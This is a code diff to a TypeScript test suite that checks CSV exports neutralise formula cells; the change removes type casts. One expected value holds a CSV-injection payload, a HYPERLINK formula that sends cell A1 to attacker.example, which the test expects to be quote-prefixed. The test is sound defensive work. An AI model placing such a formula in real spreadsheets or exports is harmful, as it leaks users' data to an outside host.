@@ -140,10 +140,10 @@ describe('CSV exports neutralise formulas', () => {
   };
 
   it('prefixes formula-like text cells with a quote, leaves numbers as they are', () => {
-    const [header, row] = parseCsv(toCsv(formulas, 'nodes')) as string[][];
+    const [header, row] = parseCsv(toCsv(formulas, 'nodes'));
     const cell = (name: string) => row![header!.indexOf(name)];
     // csv-parse gives the cells as they are in the file; the first row is the Source.
-    const evil = (parseCsv(toCsv(formulas, 'nodes')) as string[][])[2]!;
+    const evil = parseCsv(toCsv(formulas, 'nodes'))[2]!;
     const at = (name: string) => evil[header!.indexOf(name)];
     expect(cell('key')).toBe('source:doc');
     expect(at('name')).toBe('\'=HYPERLINK("http://attacker.example/?x="&A1,"Click")');
